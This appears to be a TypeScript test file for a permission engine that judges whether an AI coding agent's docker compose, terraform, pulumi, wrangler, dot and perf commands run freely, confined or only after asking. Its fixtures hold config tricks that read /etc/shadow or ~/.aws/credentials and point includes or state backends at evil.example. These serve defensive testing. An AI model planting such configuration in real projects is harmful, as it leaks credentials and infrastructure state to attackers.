import { describe, expect, it } from "vitest";
import { REFERENCE } from "../../src/agents/index.ts";
import { decide } from "../../src/engine/index.ts";
import { engine, scratch } from "../scratch.ts";

/** Commands that only look, beside a file of the project that says what else they read, start or dial. */
function verdictOf(command: string, files: Readonly<Record<string, string>>): string {
  const place = scratch();
  place.write("~/.agent-permissions.jsonc", '{ "version": 1, "unknown": "confine" }');
  for (const [name, text] of Object.entries(files)) place.write(name, text);
  const host = { shell: "bash", decides: true, asks: true, bypassed: false, planning: false, confines: true } as const;
  const facts = REFERENCE.protocol.tools["Bash"];
  const request = { tool: "Bash", facts, input: { command }, cwd: place.project, host, point: "hook", agent: "claude" };
  const { verdict } = decide(request, { machine: place.machine, ...engine, policyFiles: [], audit: false, memory: "none" });
  return verdict.decision === "allow" ? (verdict.confined === undefined ? "bare" : "confined") : verdict.decision;
}

const SERVICE = "services:\n  web:\n    image: x\n    volumes: [/var/run/docker.sock:/var/run/docker.sock]\n";

describe("a compose file", () => {
  it.each<readonly [why: string, text: string, verdict: string]>([
    ["takes in nothing", SERVICE, "bare"],
    ["a file beside it", `${SERVICE}    env_file: .env.web\n    ports: ["80:80"]\n`, "bare"],
    ["several", `${SERVICE}    env_file:\n      - ./a.env\n      - path: b.env\n        required: false\n    command: /bin/sh\n`, "bare"],
    ["another compose file below it", `include:\n  - db/compose.yaml\n${SERVICE}`, "bare"],
    ["the word in a comment", `# include: /etc/shadow\n${SERVICE}`, "bare"],
    ["a file elsewhere", `${SERVICE}    env_file: /home/you/.aws/credentials\n`, "ask"],
    ["in quotes", `${SERVICE}    "env_file": "~/.aws/credentials"\n`, "ask"],
    ["above it", `${SERVICE}    env_file: ../other/.env\n`, "ask"],
    ["in a list", `${SERVICE}    env_file:\n    - a.env\n    - /etc/shadow\n`, "ask"],
    ["in a flow", `services: { web: { image: x, env_file: [/etc/shadow] } }\n`, "ask"],
    ["by a variable", `${SERVICE}    env_file: \${HOME}/.aws/credentials\n`, "ask"],
    ["by an alias", `${SERVICE}    env_file: *there\n`, "ask"],
    ["in letters written otherwise", `${SERVICE}    "env\\x5ffile": /etc/shadow\n`, "ask"],
    ["another service's file", `${SERVICE}    extends:\n      file: /etc/shadow\n      service: a\n`, "ask"],
    ["an address", `include:\n  - https://evil.example/a.git\n${SERVICE}`, "ask"],
    ["an address as git has it", `include:\n  - git@evil.example:a/b\n${SERVICE}`, "ask"],
    ["an artifact", `include:\n  - oci:evil.example/a\n${SERVICE}`, "ask"],
    ["labels", `${SERVICE}    label_file: /etc/shadow\n`, "ask"],
  ])("%s", (_, text, verdict) => {
    expect(verdictOf("docker compose ps", { "compose.yaml": text })).toBe(verdict);
    expect(verdictOf("docker-compose logs --tail=20 web", { "docker-compose.yml": text })).toBe(verdict);
  });

  it("is found wherever it lies, and whatever names it", () => {
    const evil = `${SERVICE}    env_file: /etc/shadow\n`;
    expect(verdictOf("docker compose -f deploy/a.yml ps", { "deploy/a.yml": evil, "compose.yaml": SERVICE })).toBe("ask");
    expect(verdictOf("docker compose ps", { "compose.yaml": SERVICE, "compose.override.yml": evil })).toBe("ask");
    expect(verdictOf("cd sub && docker compose ps", { "compose.yaml": evil, "sub/README": "" })).toBe("ask");
    expect(verdictOf("docker compose ps", { "compose.yaml": SERVICE, ".env": "COMPOSE_FILE=evil.yml\n" })).toBe("ask");
    expect(verdictOf("docker ps", { "compose.yaml": evil })).toBe("bare");
  });
});

it.each([
  ["terraform output", { "main.tf": 'terraform {\n  backend "http" { address = "http://evil.example" }\n}\n' }],
  ["terraform output -raw x", { ".terraform/terraform.tfstate": "{}" }],
  ["terraform state list", {}],
  ["terraform workspace show", {}],
  ["tofu output", {}],
  ["pulumi stack ls", { "Pulumi.yaml": "backend: { url: https://evil.example }\n" }],
  ["wrangler whoami", { ".env": "CLOUDFLARE_API_BASE_URL=https://evil.example\n" }],
  ["dot -Tsvg a.dot", { "a.dot": 'digraph { a [image="/etc/shadow"] }\n' }],
  ["perf report --stdio", { "perf.data": "" }],
  ["perf annotate --stdio", { "perf.data": "" }],
] as const)("%s obeys files of the project: confined", (command, files) => {
  expect(verdictOf(command, files)).toBe("confined");
});

it.each(["terraform version", "terraform fmt -check", "pulumi version", "wrangler --version", "dot -V", "docker ps"])(
  "%s obeys none",
  (command) => expect(verdictOf(command, {})).toBe("bare"),
);
